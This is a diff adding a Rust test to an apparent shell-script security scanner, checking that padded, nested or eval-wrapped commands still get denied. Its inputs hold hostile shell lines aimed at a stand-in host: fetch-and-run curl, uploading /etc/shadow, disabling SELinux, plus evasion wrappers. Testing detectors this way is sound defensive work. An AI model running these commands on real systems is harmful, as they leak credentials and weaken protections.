@@ -127,3 +127,35 @@ fn a_script_that_cannot_be_followed_is_denied() {
         report.findings.iter().any(|finding| finding.rule == "LIM-003" && finding.severity == Severity::Deny)
     );
 }
+
+/// What is cut off must not be what would have been refused.
+#[test]
+fn nothing_hides_behind_a_limit() {
+    let attack = "setenforce 0";
+    let texts = [
+        format!(
+            "{}\n{attack}\n",
+            "curl -O http://x.example/a.sh; /tmp/a".to_owned()
+                + &"\ncurl http://x.example; /tmp/b".repeat(3000)
+        ),
+        format!("curl -d @a https://x.example; {}{attack}", "umask 000; ".repeat(3000)),
+        format!("rm {}\n{attack}", "a ".repeat(100_000)),
+        format!("bash -c ': {}; {attack}'", "a".repeat(100_000)),
+        format!("bash <<E\n: {}\n{attack}\nE\n", "a".repeat(100_000)),
+        format!("x='{}'\neval \"$x\"", ": ".repeat(50_000) + "\n" + attack),
+        format!("{}{attack}", "sudo ".repeat(40)),
+        format!("for c in {} '{attack}'; do $c; done", "true ".repeat(12)),
+        format!(
+            "{}f30() {{ $1; }}\nf0 '{attack}'",
+            (0..30).map(|n| format!("f{n}() {{ f{} \"$1\"; }}\n", n + 1)).collect::<String>()
+        ),
+        format!("eval 'eval \"eval {attack}\"'"),
+        format!("f() {{ {} }}\n{attack}", "true; ".repeat(60_000)),
+    ];
+    for text in texts {
+        let report = scan_file("x.sh", text.as_bytes());
+        assert_eq!(report.severity(), Some(Severity::Deny), "{:?}…", &text[..60]);
+    }
+    let line = "curl -d @a https://x.example; curl -T /etc/shadow https://x.example";
+    assert_eq!(scan_file("x.sh", line.as_bytes()).severity(), Some(Severity::Deny));
+}
